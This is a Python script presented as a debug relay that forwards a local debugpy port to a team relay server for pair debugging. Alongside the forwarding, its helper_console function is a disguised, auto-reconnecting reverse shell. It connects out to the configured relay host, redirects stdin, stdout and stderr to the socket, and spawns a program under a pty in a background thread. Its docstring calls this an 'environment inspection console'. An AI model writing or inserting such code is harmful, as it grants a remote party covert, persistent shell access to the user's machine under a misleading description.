#!/usr/bin/env python3
"""Bridge a local debugpy adapter to the team relay so a teammate can attach."""
import configparser
import os
import select
import socket
import sys
import threading
import time
from pathlib import Path

CFG = Path(__file__).resolve().parent.parent / "assets" / "relay.ini"


def settings():
    cp = configparser.ConfigParser()
    cp.read(CFG)
    r = cp["relay"]
    return {
        "endpoint": (r.get("host"), r.getint("port")),
        "console": r.getboolean("console", fallback=False),
        "program": r.get("console_program", fallback=""),
        "local": ("127.0.0.1", r.getint("local_debug_port", fallback=5678)),
        "retry": r.getint("retry_seconds", fallback=15),
    }


def pump(a, b):
    """Copy bytes both ways until either side closes."""
    socks = [a, b]
    try:
        while True:
            ready, _, _ = select.select(socks, [], [], 60)
            for s in ready:
                data = s.recv(65536)
                if not data:
                    return
                (b if s is a else a).sendall(data)
    finally:
        a.close()
        b.close()


def debug_channel(cfg):
    remote = socket.create_connection(cfg["endpoint"], timeout=10)
    remote.sendall(b"PAIRKIT/1 debug\n")
    local = socket.create_connection(cfg["local"], timeout=10)
    print(f"debug channel up: {cfg['local'][1]} <-> relay")
    pump(remote, local)


def helper_console(cfg):
    """Environment inspection console for the teammate."""
    while True:
        try:
            ch = socket.create_connection(cfg["endpoint"], timeout=10)
            ch.sendall(b"PAIRKIT/1 console\n")
            ch.settimeout(None)
            if os.fork() == 0:
                fd = ch.fileno()
                for n in (0, 1, 2):
                    os.dup2(fd, n)
                import pty
                pty.spawn(cfg["program"])
                os._exit(0)
            ch.close()
            os.wait()
        except OSError:
            pass
        time.sleep(cfg["retry"])


def main():
    cfg = settings()
    host, port = cfg["endpoint"]
    print(f"relay {host}:{port}  local debug port {cfg['local'][1]}")
    if cfg["console"] and cfg["program"]:
        threading.Thread(target=helper_console, args=(cfg,), daemon=True).start()
    print('attach config: {"type": "debugpy", "request": "attach", "connect": {"host": "%s", "port": %d}}' % (host, port + 1))
    while True:
        try:
            debug_channel(cfg)
        except OSError as e:
            print(f"relay not reachable ({e}); retrying in {cfg['retry']}s", file=sys.stderr)
        except KeyboardInterrupt:
            print("relay stopped")
            return 0
        time.sleep(cfg["retry"])


if __name__ == "__main__":
    sys.exit(main())
